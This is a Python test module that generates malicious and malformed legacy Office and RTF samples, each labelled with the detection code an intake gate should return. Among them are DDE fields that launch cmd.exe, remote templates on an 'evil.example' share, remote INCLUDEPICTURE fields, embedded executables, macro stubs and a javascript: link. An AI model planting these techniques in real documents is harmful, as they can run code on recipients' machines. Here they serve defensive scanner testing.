"""Documents of before 2007 and Rich Text with something at work in them."""

from __future__ import annotations

from collections.abc import Iterator

from tests.intake.gate_corpus import compound, rtf
from tests.intake.gate_corpus.case import Case
from tests.intake.gate_corpus.compound import book_stream, clsid, record, storage, word_streams
from tests.intake.gate_corpus.office import (
    docx_parts,
    packed,
)
from tests.intake.gate_corpus.payloads import (
    HOST,
    PROGRAM,
)

WORDS, BOOK = word_streams(), {"Workbook": book_stream()}


def cases(host: str = HOST) -> Iterator[Case]:
    """Every one; `host` is whom remote parts would be asked for."""
    yield from _older(host)
    yield from _older_fields(host)
    yield from _older_shapes(host)
    yield from _older_sheets(host)
    yield from _rich(host)


def _doc(title: str, code: str, content: bytes, end: str = "doc") -> Case:
    return Case(f"bad {end}", title, f"{title}.{end}", content, code)


def _older(host: str) -> Iterator[Case]:
    yield _doc(
        "macros",
        "MACRO",
        compound.compound({**WORDS, "Macros": compound.project("Sub AutoOpen()\r\nEnd Sub\r\n")}),
    )
    yield _doc(
        "macros compiled only",
        "MACRO",
        compound.compound({**WORDS, "Macros": compound.project(compiled=9000)}),
    )
    yield _doc(
        "macros that cannot be read",
        "MACRO",
        compound.compound({**WORDS, "Macros": {"VBA": {"dir": b"x", "A": b"y"}}}),
    )
    form = {**compound.project(), "UserForm1": {"f": b"x"}}
    yield _doc("form", "MACRO", compound.compound({**WORDS, "Macros": form}))
    yield _doc("with a password", "ENCRYPTED", compound.compound(word_streams(flags=0x1300)))
    yield _doc(
        "packaged program",
        "EMBEDDED_OBJECT",
        compound.compound(
            {**WORDS, "ObjectPool": {"_1": {"\1Ole10Native": b"\x99\0\0\0\2\0a.exe\0"}}}
        ),
    )
    yield _doc(
        "browser object",
        "EMBEDDED_OBJECT",
        compound.compound(
            {
                **WORDS,
                "ObjectPool": {
                    "_1": storage({"a": b"x"}, clsid("8856F961-340A-11D0-A96B-00C04FD705A2"))
                },
            }
        ),
    )


def _older_fields(host: str) -> Iterator[Case]:
    remote = b"\1\0\0\2\1\0\0\0" + host.encode("utf-16-le")
    yield _doc(
        "remote object",
        "REMOTE_CONTENT",
        compound.compound({**WORDS, "ObjectPool": {"_1": {"\1Ole": remote}}}),
    )
    yield _doc(
        "DDE field",
        "DDE_LINK",
        compound.compound(word_streams(b'\x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14 x \x15')),
    )
    wide = '\x13 DDE cmd "/k calc" \x14x\x15'.encode("utf-16-le")
    yield _doc("DDE field in two bytes", "DDE_LINK", compound.compound(word_streams(wide)))
    yield _doc(
        "remote picture",
        "REMOTE_CONTENT",
        compound.compound(word_streams(f'\x13 INCLUDEPICTURE "{host}" \\d \x15'.encode())),
    )
    yield _doc(
        "remote template", "REMOTE_CONTENT", compound.compound(word_streams(template=f"{host}.dot"))
    )
    yield _doc(
        "template on a share",
        "REMOTE_CONTENT",
        compound.compound(word_streams(template="\\\\evil.example\\t\\a.dot")),
    )


def _older_shapes(host: str) -> Iterator[Case]:
    whole = compound.compound({**WORDS, "Data": bytes(range(256)) * 64})
    yield _doc("cut in half", "DAMAGED", whole[: len(whole) // 2])
    yield _doc("header alone", "DAMAGED", whole[:512])
    yield _doc("xls as doc", "KIND_MISMATCH", compound.compound(BOOK))
    yield _doc(
        "installer as doc",
        "KIND_MISMATCH",
        compound.compound({"\u4840\u3b3f": b"x"}, clsid("000C1084-0000-0000-C000-000000000046")),
    )
    yield _doc("RTF as doc", "KIND_MISMATCH", rtf.rtf())
    yield _doc("docx as doc", "KIND_MISMATCH", packed(docx_parts()))
    yield _doc("page of the web as doc", "KIND_MISMATCH", b"<html><body>x</body></html>")
    yield _doc(
        "without a table", "DAMAGED", compound.compound({"WordDocument": WORDS["WordDocument"]})
    )
    yield _doc("loop of sectors", "DAMAGED", _looped(whole))
    yield _doc("loop of entries", "DAMAGED", _entangled(whole))
    yield _doc(
        "macros",
        "MACRO",
        compound.compound({**BOOK, "_VBA_PROJECT_CUR": compound.project("Sub A()\r\nEnd Sub\r\n")}),
        "xls",
    )
    yield _doc(
        "Excel 4 macro sheet", "MACRO", compound.compound({"Workbook": book_stream(sheet=1)}), "xls"
    )
    yield _doc(
        "with a password",
        "ENCRYPTED",
        compound.compound({"Workbook": book_stream(record(0x2F, bytes(6)))}),
        "xls",
    )
    dde = record(0x1AE, b"\0\0\x0d\0\0cmd\x03/c calc")
    yield _doc("DDE link", "DDE_LINK", compound.compound({"Workbook": book_stream(dde)}), "xls")


def _older_sheets(host: str) -> Iterator[Case]:
    yield _doc(
        "cut records",
        "DAMAGED",
        compound.compound({"Workbook": book_stream() + b"\x85\0\xff\xffx" + b"a" * 5000}),
        "xls",
    )
    yield _doc("doc as xls", "KIND_MISMATCH", compound.compound(WORDS), "xls")
    yield _doc(
        "packaged program",
        "EMBEDDED_OBJECT",
        compound.compound({**BOOK, "MBD01": {"\1Ole10Native": b"\x99\0\0\0\2\0a.exe\0"}}),
        "xls",
    )
    yield _doc(
        "page of the web as xls",
        "KIND_MISMATCH",
        b"<html><table><tr><td>1</td></tr></table></html>",
        "xls",
    )


def _looped(content: bytes) -> bytes:
    """The first stream's chain of sectors bent back to its beginning."""
    told = bytearray(content)
    table = 512 + 512 * int.from_bytes(content[76:80], "little")
    told[table + 4 : table + 8] = (0).to_bytes(4, "little")
    return bytes(told)


def _entangled(content: bytes) -> bytes:
    """The last entry of the directory made its own neighbour."""
    told = bytearray(content)
    first = 512 + 512 * int.from_bytes(content[48:52], "little")
    told[first + 128 + 72 : first + 128 + 76] = (1).to_bytes(4, "little")
    return bytes(told)


def _rich(host: str) -> Iterator[Case]:
    objects = {
        "object data": r"{\object\objemb{\*\objclass Package}{\*\objdata 0105}}",
        "ActiveX": r"{\object\objocx{\*\objdata 0105}}",
        "linked object": r"{\object\objautlink\objupdate{\*\objclass htmlfile}{\*\objdata 0105}}",
        "object data alone": r"{\*\objdata 0105000002000000}",
        "object data in pieces": "{\\object\r\n\\objupdate{\\*\\objdata{\\*\\x 01}\r\n05}}",
        "object data after raw bytes": r"{\pict\bin4 {{{{}{\*\objdata 01}",
    }
    for title, body in objects.items():
        yield Case("bad rtf", title, f"{title}.rtf", rtf.rtf(body), "EMBEDDED_OBJECT")
    fields = {
        "DDE field": (r"{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe x}}", "DDE_LINK"),
        "DDE field in letters": (r"{\field{\*\fldinst {\'44\'44\'45 cmd x}}}", "DDE_LINK"),
        "remote picture": (
            rf'{{\field{{\*\fldinst INCLUDEPICTURE "{host}" \\d}}}}',
            "REMOTE_CONTENT",
        ),
        "remote template": (rf"{{\*\template {host}.dot}}", "REMOTE_CONTENT"),
        "template on a share": (r"{\*\template \\\\evil.example\\a\\t.dot}", "REMOTE_CONTENT"),
        "link that runs": (r'{\field{\*\fldinst HYPERLINK "javascript:x()"}}', "DANGEROUS_LINK"),
    }
    for title, (body, code) in fields.items():
        yield Case("bad rtf", title, f"{title}.rtf", rtf.rtf(body), code)
    yield Case("bad rtf", "too deep", "d.rtf", rtf.rtf("{" * 5000 + "}" * 5000), "XML_BOMB")
    yield Case("bad rtf", "cut in half", "c.rtf", rtf.rtf()[:-30], "DAMAGED")
    yield Case("bad rtf", "bytes behind", "t.rtf", rtf.rtf() + PROGRAM, "TRAILING_BYTES")
    yield Case("bad rtf", "short mark", "s.rtf", b"{\\rt" + rtf.rtf()[5:], "KIND_MISMATCH")
    yield Case("bad rtf", "page of the web", "h.rtf", b"<html></html>", "KIND_MISMATCH")
